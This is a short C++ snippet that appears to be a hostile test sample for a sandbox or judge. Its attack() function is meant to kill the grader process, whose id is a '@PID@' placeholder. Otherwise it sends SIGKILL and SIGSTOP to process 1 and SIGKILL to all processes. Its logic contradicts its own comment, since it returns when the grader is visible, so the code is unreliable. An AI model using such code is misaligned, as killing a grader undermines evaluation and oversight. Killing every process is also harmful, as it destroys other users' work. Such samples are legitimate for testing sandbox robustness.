// call: crashed
// Ends the grader if it can be seen, else process 1, else all that is left.
#include <csignal>
#include <cstdlib>
#include <unistd.h>
static void attack() {
    if (kill(std::atoi("@PID@"), 0) == 0) {
        return;
    }
    kill(1, SIGKILL);
    kill(1, SIGSTOP);
    kill(-1, SIGKILL);
    kill(0, SIGKILL);
}
